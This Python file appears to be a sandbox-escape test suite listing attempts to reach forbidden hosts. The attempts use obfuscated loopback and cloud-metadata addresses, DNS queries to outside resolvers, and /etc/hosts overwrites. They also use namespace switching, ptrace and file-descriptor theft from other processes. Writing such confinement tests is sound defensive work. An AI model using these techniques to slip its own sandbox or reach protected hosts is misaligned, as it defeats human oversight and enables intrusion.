"""Reaching a host that is not allowed, where some are reached by name."""

from __future__ import annotations

from tests.escape.attempt import Attempt, Limits
from tests.escape.attempts.host_requests import REQUESTS
from tests.escape.attempts.ways import WAYS
from tests.escape.front import ALLOWED, INSIDE, OWN_PORT
from tests.escape.judges import canary_reached

_LIMITS = Limits(wall_s=30)

_TARGETS = {
    "loopback": "127.0.0.1",
    "loopback-short": "127.1",
    "loopback-decimal": "2130706433",
    "loopback-octal": "0177.0.0.1",
    "loopback-octal-whole": "017700000001",
    "loopback-hex": "0x7f000001",
    "loopback-hex-parts": "0x7F.0x0.0x0.0x1",
    "loopback-dot": "127.0.0.1.",
    "loopback-other": "127.255.255.254",
    "any-address": "0.0.0.0",
    "any-address-short": "0",
    "localhost": "localhost",
    "localhost-capitals": "LOCALHOST",
    "localhost-dot": "localhost.",
    "localhost-below": "x.localhost",
    "loopback-six": "[::1]",
    "loopback-six-long": "[0:0:0:0:0:0:0:1]",
    "any-address-six": "[::]",
    "mapped": "[::ffff:127.0.0.1]",
    "mapped-hex": "[::ffff:7f00:1]",
    "translated": "[::ffff:0:7f00:1]",
    "compatible": "[::127.0.0.1]",
    "nat64": "[64:ff9b::7f00:1]",
    "nat64-local": "[64:ff9b:1::7f00:1]",
    "six-to-four": "[2002:7f00:1::]",
    "isatap": "[2a00:1450::5efe:7f00:1]",
    "teredo": "[2001:0:7f00:1::]",
    "link-local-zone": "[fe80::1%lo]",
    "link-local-zone-quoted": "[fe80::1%25lo]",
    "unique-local": "[fd00::1]",
    "metadata": "169.254.169.254",
    "metadata-decimal": "2852039166",
    "metadata-hex": "0xA9FEA9FE",
    "metadata-mapped": "[::ffff:169.254.169.254]",
    "metadata-six": "[fd00:ec2::254]",
    "metadata-of-containers": "169.254.170.2",
    "metadata-shared": "100.100.100.200",
    "metadata-public": "168.63.129.16",
    "metadata-name": "metadata.google.internal",
    "private-ten": "10.0.0.1",
    "private-twelve": "172.16.0.1",
    "private-sixteen": "192.168.0.1",
    "stands-for-nothing": "198.18.200.200",
    "public-address": "203.0.113.7",
    "everybody": "224.0.0.1",
    "digits-in-circles": "①②⑦.⓪.⓪.①",
    "wide-dots": "127。0。0。1",
    "percent": "%31%32%37.0.0.1",
    "user": f"{ALLOWED}@127.0.0.1",
    "user-and-port": f"{ALLOWED}:80@127.0.0.1",
    "fragment": f"127.0.0.1#{ALLOWED}",
    "backslash": f"127.0.0.1\\@{ALLOWED}",
    "zero-byte": f"127.0.0.1\0.{INSIDE}",
    "space": f"127.0.0.1 {ALLOWED}",
    "line-end": f"127.0.0.1\r\n.{INSIDE}",
    "not-listed": "forbidden.example",
    "below-listed": f"forbidden.{ALLOWED}",
    "ends-as-listed": f"x{ALLOWED}",
    "begins-as-listed": f"{ALLOWED}.forbidden.example",
    "above-wildcard": INSIDE,
    "wildcard-itself": f"*.{INSIDE}",
    "empty-label": f".{INSIDE}",
    "empty-label-within": f"a..{INSIDE}",
    "soft-hyphen": "forbid\u00adden.example",
}

# Names that are listed, by what they resolve to.
_ANSWERS = {
    "loopback": "7f000001",
    "loopback-six": "0" * 31 + "1",
    "any": "00000000",
    "any-six": "0" * 32,
    "mapped": "0" * 20 + "ffff7f000001",
    "nat64": "0064ff9b" + "0" * 16 + "7f000001",
    "six-to-four": "20027f000001" + "0" * 20,
    "isatap": "2a001450" + "0" * 8 + "00005efe7f000001",
    "metadata": "a9fea9fe",
    "metadata-six": "fd000ec2" + "0" * 20 + "0254",
    "metadata-shared": "646464c8",
    "metadata-public": "a83f8110",
    "private": "0a000001",
    "link-local": "fe80" + "0" * 27 + "1",
    "stands-for-nothing": "c612c8c8",
    "mixed": "7f00004d-7f000001",
    "mixed-last": "7f00004d-0a000001-7f00004d",
    "changing": "flip-7f00004d-7f000001",
    "changing-at-first": "flip-7f000001-7f00004d",
}

_TARGET = (
    WAYS
    + """
for port in (80, 443, TCP):
    every_way(NAME, port)
"""
)
_OWN_PORT = (
    WAYS
    + f"""
for name in ("{ALLOWED}", "7f00004d.{INSIDE}"):
    every_way(name, {OWN_PORT})
"""
)
_LISTED_NAME_OF_ADDRESS = (
    WAYS
    + f"""
import os
name = "7f000001.{INSIDE}"
found = set()
try:
    found = {{entry[4][0] for entry in socket.getaddrinfo(name, None)}}
except OSError:
    pass
for address in found | {{"198.18.0.10", "198.18.0.11", "::ffff:198.18.0.10"}}:
    for port in (80, 443, TCP):
        every_way(f"[{{address}}]" if ":" in address else address, port)
"""
)

_NAMES = {
    "name-not-listed": "ask(MARK + '.example')",
    "name-below-allowed": f"ask(MARK + '.{ALLOWED}')",
    "name-under-wildcard": f"ask(MARK + '.{INSIDE}')",
    "long-name-under-wildcard": f"ask(MARK + 'a' * 30 + '.' + 'b' * 63 + '.{INSIDE}')",
    "name-by-tcp": f"ask_tcp(MARK + '.{INSIDE}')\nask_tcp(MARK + '.example')",
    "name-of-every-kind": f"""
for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 64, 65, 250, 252, 255):
    ask(MARK + '.{INSIDE}', kind)
""",
    "name-with-edns": f"ask(MARK + '.{INSIDE}', 16, more=b'\\0\\0\\x29\\x10\\0' + bytes(6))",
    "name-in-other-class": f"ask(MARK + '.{INSIDE}', 1, 3)\nask(MARK + '.example', 16, 255)",
    "name-at-other-servers": """
for server in ("8.8.8.8", "1.1.1.1", "9.9.9.9", "127.0.0.53", "::1", "2001:4860:4860::8888"):
    ask(MARK + ".example", server=server)
    ask_tcp(MARK + ".example", server=server)
""",
    "name-many-times": f"""
for number in range(2000):
    ask(f"{{number}}.{{MARK}}.{INSIDE}", wait=0)
""",
    "name-in-reverse": "ask(MARK + '.1.0.0.127.in-addr.arpa', 12)",
    "name-in-two-questions": f"ask('{ALLOWED}', more=packed(MARK + '.example'), count=2)",
    "names-by-multicast": """
for server, port in (("224.0.0.251", 5353), ("224.0.0.252", 5355), ("255.255.255.255", 53)):
    ask(MARK + ".local", server=server, port=port)
""",
}

_DIRECT = {
    "bound-to-device": """
client = socket.socket()
client.setsockopt(socket.SOL_SOCKET, 25, b"lo")
client.connect(("127.0.0.1", TCP))
client.sendall(hello(MARK))
""",
    "bound-elsewhere": """
for option in ((0, 15), (0, 19), (41, 75)):
    client = socket.socket()
    try:
        client.setsockopt(*option, 1)
    except OSError:
        pass
    try:
        client.bind(("127.0.0.77", 0))
        client.connect(("127.0.0.1", TCP))
        client.sendall(hello(MARK))
    except OSError:
        pass
""",
    "fast-open-to-listed": """
for place in (("127.0.0.1", TCP), ("198.18.0.10", 443), ("127.0.0.77", 80)):
    try:
        socket.socket().sendto(hello(MARK), 0x20000000, place)
    except OSError:
        pass
""",
    "marked-packets": """
route = bytes((131, 11, 4)) + socket.inet_aton("127.0.0.1") * 2 + bytes(1)
for level, option, value in ((1, 36, 1), (1, 12, 7), (0, 4, route)):
    client = socket.socket()
    client.settimeout(PATIENCE)
    try:
        client.setsockopt(level, option, value)
        client.connect(("127.0.0.1", TCP))
        client.sendall(hello(MARK))
    except OSError:
        pass
""",
    "quic": """
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for place in (("127.0.0.1", UDP), ("127.0.0.77", 443), ("198.18.0.10", 443)):
    try:
        client.sendto(b"\\xc0" + MARK.encode(), place)
    except OSError:
        pass
""",
    "port-of-proxy-taken": """
kept = []
for port in (53, 80, 443, PROXY):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        for option in (2, 15):
            server = socket.socket(socket.AF_INET, kind)
            try:
                server.setsockopt(socket.SOL_SOCKET, option, 1)
                server.bind(("127.0.0.1", port))
                server.listen()
                kept.append(server)
            except OSError:
                pass
every_way("127.0.0.1", TCP)
""",
    "udp-through-socks": """
client = proxy()
client.sendall(bytes((5, 1, 0)))
client.recv(9)
client.sendall(bytes((5, 3, 0, 1)) + socket.inet_aton("127.0.0.1") + struct.pack(">H", UDP))
client.recv(99)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", UDP))
""",
}

# What has the same effect where nothing confines it would change the machine, or has none.
_UNSEEN = {
    "own-hosts-file": """
for path in ("/etc/hosts", "/etc/resolv.conf"):
    for write in (lambda: open(path, "a"), lambda: os.unlink(path), lambda: os.rename(path, "x")):
        try:
            write().write("127.0.0.1 forbidden.example\\nnameserver 127.0.0.1\\n")
        except (OSError, AttributeError):
            pass
every_way("forbidden.example", 80)
every_way("forbidden.example", TCP)
""",
    "own-network": """
import ctypes
libc = ctypes.CDLL(None)
for flags in (0x40000000, 0x10000000 | 0x40000000, 0x10000000):
    libc.unshare(flags)
for pid in (1, os.getppid(), SERVICE):
    for call in (lambda: libc.setns(os.open(f"/proc/{pid}/ns/net", 0), 0),
                 lambda: libc.setns(libc.syscall(434, pid, 0), 0x40000000)):
        try:
            call()
        except OSError:
            pass
every_way("127.0.0.1", TCP)
""",
    "sockets-of-others": """
import ctypes
libc = ctypes.CDLL(None)
for pid in (1, os.getppid(), SERVICE):
    handle = libc.syscall(434, pid, 0)
    libc.ptrace(16, pid, 0, 0)
    for number in range(64):
        taken = libc.syscall(438, handle, number, 0)
        if taken >= 0:
            print(os.pread(taken, 99, 0))
        try:
            taken = os.open(f"/proc/{pid}/fd/{number}", os.O_RDWR)
            print(os.pread(taken, 99, 0))
        except OSError:
            pass
""",
    "sockets-handed-over": """
mine, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
server = socket.create_server(("127.0.0.1", 0))
for number in range(3, 1024):
    for message in (b"sockets", b"last", b"ready"):
        try:
            with socket.socket(fileno=os.dup(number)) as guessed:
                if guessed.fileno() not in (mine.fileno(), server.fileno()):
                    socket.send_fds(guessed, [message], [server.fileno()])
        except OSError:
            pass
every_way("127.0.0.1", TCP)
""",
}

HOSTS: tuple[Attempt, ...] = (
    *(
        Attempt(
            f"host-{name}",
            "hosts",
            f"NAME = {target!r}\n{_TARGET}",
            canary_reached,
            levels=("bash",),
            limits=_LIMITS,
        )
        for name, target in _TARGETS.items()
    ),
    *(
        Attempt(
            f"host-resolves-to-{name}",
            "hosts",
            f"NAME = '{answer}.{INSIDE}'\n{_TARGET * 2}",
            canary_reached,
            levels=("bash",),
            limits=_LIMITS,
        )
        for name, answer in _ANSWERS.items()
    ),
    *(
        Attempt(f"host-{name}", "hosts", source, canary_reached, limits=_LIMITS)
        for name, source in (
            ("own-port", _OWN_PORT),
            ("address-of-listed-name", _LISTED_NAME_OF_ADDRESS),
        )
    ),
    *(
        Attempt(f"host-{name}", "hosts", WAYS + source, canary_reached, limits=_LIMITS)
        for name, source in (_NAMES | _DIRECT).items()
    ),
    *(
        Attempt(
            f"host-{name}",
            "hosts",
            f"import os\n{WAYS}{source}",
            canary_reached,
            limits=_LIMITS,
            unseen="without a sandbox it would change the machine, or there is nothing to take",
        )
        for name, source in _UNSEEN.items()
    ),
    *REQUESTS,
)
